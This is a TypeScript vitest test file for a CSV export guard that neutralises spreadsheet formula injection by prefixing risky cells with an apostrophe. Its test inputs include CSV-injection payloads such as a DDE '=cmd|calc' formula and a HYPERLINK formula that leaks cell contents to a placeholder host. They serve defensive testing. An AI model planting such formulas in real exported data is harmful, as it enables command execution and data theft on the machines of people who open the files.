import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { csvLine, unguard } from './csv.ts';

test.each([
  ['=1+1', "'=1+1"],
  ['+49 30 1234', "'+49 30 1234"],
  ['-2', "'-2"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ['\r\n=1', "'\r\n'=1"],
  ['\tplain', "'\tplain"],
  [' =cmd|calc', "' =cmd|calc"],
  ['\xa0=1', "'\xa0=1"],
  ['＝1', "'＝1"],
  ['"=1"', `'"=1"`],
  ["'=1", "''=1"],
  ['=HYPERLINK("http://x.example?"&A1)', `'=HYPERLINK("http://x.example?"&A1)`],
  ["x;=cmd|'/C calc'!A0;y", "x;'=cmd|'/C calc'!A0;y"],
  ['x; "=1"', `x;' "=1"`],
  ['Skills:\n- sewing', "Skills:\n'- sewing"],
])('prefixes each possible formula in %j with an apostrophe', (text, guarded) => {
  expect(Papa.parse(csvLine([text]).slice(0, -2)).data).toEqual([[guarded]]);
});

test('every cell is quoted', () => {
  expect(csvLine(['plain', 7, null])).toBe('"plain","7",""\r\n');
});

test('no list separator can make a spreadsheet treat cell text as a formula', () => {
  const signs = ['=', ';', ',', '\t', '\n', '"', ' ', 'x'];
  let texts = [''];
  for (let length = 1; length <= 3; length += 1) {
    texts = texts.flatMap((text) => signs.map((sign) => text + sign));
    for (const text of texts) {
      const line = csvLine(['x', text, 'y']);
      for (const delimiter of [',', ';', '\t']) {
        const cells = Papa.parse<string[]>(line, { delimiter }).data.flat();
        const formulas = cells.filter((cell) => /^["\s]*=/.test(cell));
        if (formulas.length > 0) expect.fail(`${JSON.stringify({ text, delimiter })}: ${formulas}`);
      }
    }
  }
});

test.each([
  'plain',
  'a,b',
  'say "no"',
  'two\nlines',
  'semi;colon',
  "O'Hara",
  '',
  'é 日本',
  "'quoted",
])('%j is exported unchanged', (text) => {
  const { data } = Papa.parse<string[]>(csvLine(['x', text]));
  expect(data[0]).toEqual(['x', text]);
});

test('a guarded text becomes the original text again, whatever it contains', () => {
  const signs = ['=', "'", ';', '"', ' ', '\n', 'x', '-'];
  let texts = [''];
  for (let length = 1; length <= 4; length += 1) {
    texts = texts.flatMap((text) => signs.map((sign) => text + sign));
    // No imported text begins with a line break.
    for (const text of texts.filter((one) => !one.startsWith('\n'))) {
      const [[cell = ''] = []] = Papa.parse<string[]>(csvLine([text]).slice(0, -2)).data;
      if (unguard(cell) !== text) expect.fail(JSON.stringify({ text, cell }));
    }
  }
});

test.each(["rock, '-n'-roll", "uses '+', '-' and '='", "don't", "O'Hara; 'x'"])(
  'apostrophes that guard nothing are kept: %s',
  (text) => expect(unguard(text)).toBe(text),
);
